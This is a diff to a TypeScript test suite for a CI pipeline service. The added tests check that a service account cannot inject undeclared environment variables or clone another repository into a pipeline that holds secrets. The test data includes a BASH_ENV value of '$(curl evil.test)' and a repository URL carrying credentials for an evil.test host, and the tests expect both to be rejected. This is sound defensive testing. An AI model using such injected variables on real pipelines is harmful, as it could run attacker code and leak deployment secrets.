@@ -6,7 +6,10 @@ import { freshReservation } from '../../idempotency/reservation.js';
 import { MemoryEventBus } from '../../integrations/event-bus/memory-event-bus.js';
 import { NoTracing } from '../../integrations/tracing/tracing.js';
 import type { PipelinesService } from '../../pipelines/definitions/pipelines.service.js';
+import { SCOPES_OF_ROLE, type Role } from '../../auth/policy/policy.js';
+import type { RepositoriesService } from '../../repositories/repositories.service.js';
 import type { PlansService } from '../../pipelines/versions/plans.service.js';
+import { CancelExecution } from '../ending/cancel-execution.js';
 import { EndingFixture } from '../ending/ending.fixture.js';
 import type { ExecutionPlacer } from '../placement/execution-placer.js';
 import { CANCEL_TOPIC } from '../placement/execution-topics.js';
@@ -14,6 +17,8 @@ import { endedExecution, pendingExecution } from '../record/execution.fixture.js
 import type { ExecutionListsRepository } from '../record/execution-lists.repository.js';
 import { LiveExecutions } from '../record/live-executions.js';
 import { MemoryExecutions } from '../record/memory-executions.fixture.js';
+import { AcceptExecution } from './accept-execution.js';
+import type { ExecutionNumbers } from './execution-numbers.js';
 import { ExecutionsService } from './executions.service.js';
 
 Logger.overrideLogger(false);
@@ -26,6 +31,19 @@ triggers: [{ manual: { inputs: { tag: { type: string, required: true } } } }]
 stages: [{ name: a, steps: [{ name: x, run: "true" }] }]
 `);
 if (!plan || !definition) throw new Error('does not compile');
+const withSecrets = compileYaml(`
+name: p
+repository: https://git.test/acme/shop.git
+environment: { LEVEL: info }
+secrets: [DEPLOY_KEY]
+stages: [{ name: a, environment: { OF_STAGE: "1" }, steps: [{ name: x, run: "true", environment: { OF_STEP: "1" } }] }]
+`).plan;
+const withCredentials = compileYaml(`
+name: p
+repository: { url: https://git.test/acme/shop.git, credentials: TOKEN }
+stages: [{ name: a, steps: [{ name: x, run: "true" }] }]
+`).plan;
+if (!withSecrets || !withCredentials) throw new Error('does not compile');
 
 describe('ExecutionsService', () => {
   let executions: MemoryExecutions;
@@ -35,8 +53,10 @@ describe('ExecutionsService', () => {
   let isEnabled: boolean | undefined;
   let isQueueThere: boolean;
   let events: string[];
+  let current = plan;
 
   beforeEach(() => {
+    current = plan;
     executions = new MemoryExecutions();
     bus = new MemoryEventBus();
     metrics = new Metrics();
@@ -55,27 +75,35 @@ describe('ExecutionsService', () => {
           enabled: isEnabled === true,
           number: 7,
           planHash: 'hash',
-          plan,
-          definition,
+          plan: current,
+          definition: { inputs: definition.inputs, triggers: [] },
         }),
         isEnabled: async () => isEnabled,
       }),
       standIn<PlansService>({ get: async () => plan }),
+      standIn<RepositoriesService>({ withCloneUrl: async () => undefined }),
       executions.repository,
       standIn<ExecutionListsRepository>({}),
-      standIn<ExecutionPlacer>({
-        announceQueue: async (queue) => void events.push(`announce ${queue}`),
-        offer: async ({ _id, enqueue_number }) => {
-          // The document comes first: whoever takes the job must find it.
-          events.push(`offer ${executions.stored(_id).status} ${enqueue_number}`);
-          return isQueueThere;
-        },
-      }),
-      new EndingFixture(executions, bus, metrics).endings,
+      new AcceptExecution(
+        executions.repository,
+        standIn<ExecutionNumbers>({ next: async (_id, taken = 41) => taken + 1 }),
+        standIn<ExecutionPlacer>({
+          announceQueue: async (queue) => void events.push(`announce ${queue}`),
+          offer: async ({ _id, enqueue_number }) => {
+            // The document comes first: whoever takes the job must find it.
+            events.push(`offer ${executions.stored(_id).status} ${enqueue_number}`);
+            return isQueueThere;
+          },
+        }),
+        metrics,
+        new NoTracing(),
+      ),
+      new CancelExecution(
+        executions.repository,
+        new EndingFixture(executions, bus, metrics).endings,
+        bus,
+      ),
       new LiveExecutions(bus),
-      bus,
-      metrics,
-      new NoTracing(),
     );
   });
 
@@ -83,7 +111,11 @@ describe('ExecutionsService', () => {
   const trigger = (
     request: Parameters<ExecutionsService['trigger']>[1] = {},
     reservation = freshReservation(),
-  ) => service.trigger(PIPELINE, { inputs, ...request }, 'ada', reservation);
+    role: Role = 'developer',
+  ) => {
+    const caller = { id: 'ada', scopes: new Set(SCOPES_OF_ROLE[role]) };
+    return service.trigger(PIPELINE, { inputs, ...request }, caller, reservation);
+  };
 
   describe('trigger', () => {
     it('stores the execution in the queue of its labels, then offers it', async () => {
@@ -108,6 +140,82 @@ describe('ExecutionsService', () => {
       const { clone_url, trigger_info } = executions.stored(executionId);
       expect(clone_url).toBe(repository);
       expect(JSON.stringify(trigger_info)).not.toContain('secret');
+    });
+
+    describe('of a pipeline with secrets, by somebody who may not write pipelines', () => {
+      const byProgram = (request: Parameters<typeof trigger>[0]) =>
+        trigger(request, freshReservation(), 'service_account');
+      beforeEach(() => {
+        current = withSecrets;
+      });
+
+      it.each([
+        ['secrets', withSecrets],
+        ['credentials of its clone', withCredentials],
+      ])('takes no variable that it does not declare: %s', async (_name, its) => {
+        current = its;
+        const environment = { BASH_ENV: '$(curl evil.test)', constructor: 'x' };
+        await expect(byProgram({ environment })).rejects.toMatchObject({
+          kind: 'AuthorizationError',
+          details: {
+            code: 'undeclared_variable',
+            required_scope: 'pipelines:write',
+            environment: ['BASH_ENV', 'constructor'],
+          },
+        });
+        expect(events).toEqual([]);
+      });
+
+      it('takes those that any of its levels declares', async () => {
+        const environment = { LEVEL: 'debug', OF_STAGE: '2', OF_STEP: '2' };
+        const { executionId } = await byProgram({ environment });
+        expect(executions.stored(executionId).environment).toEqual(environment);
+      });
+
+      it.each([
+        'https://evil.test/acme/shop.git',
+        'https://git.test/acme/other.git',
+        'https://git.test/Acme/shop.git',
+        'https://git.test:8443/acme/shop.git',
+        'http://git.test/acme/shop.git',
+        'ssh://git@git.test/acme/shop.git',
+      ])('clones no other repository: %s', async (repository) => {
+        await expect(byProgram({ repository })).rejects.toMatchObject({
+          kind: 'AuthorizationError',
+          details: { code: 'other_repository', repository },
+        });
+        expect(events).toEqual([]);
+      });
+
+      it('shows no credentials of the repository that it refuses', async () => {
+        const refused = byProgram({ repository: 'https://ada:secret@evil.test/r.git' });
+        await expect(refused).rejects.toMatchObject({
+          message: expect.not.stringContaining('secret@'),
+          details: { repository: 'https://***@evil.test/r.git' },
+        });
+      });
+
+      it('clones its own, also with credentials of the caller', async () => {
+        const repository = 'https://ada:secret@git.test/acme/shop';
+        const { executionId } = await byProgram({ repository });
+        expect(executions.stored(executionId).clone_url).toBe(repository);
+      });
+
+      it('without secrets, and by those who may write it, everything is taken', async () => {
+        const request = {
+          environment: { BASH_ENV: '/x' },
+          repository: 'https://fork.test/acme/shop.git',
+        };
+        await trigger(request);
+        current = plan;
+        await byProgram(request);
+      });
+    });
+
+    it('numbers executions, and counts on where a number is taken', async () => {
+      const numbers = [];
+      for (let each = 0; each < 3; each++) numbers.push((await trigger()).number);
+      expect(numbers).toEqual([42, 43, 44]);
     });
 
     it('accepts without the queue, and says what it waits for', async () => {
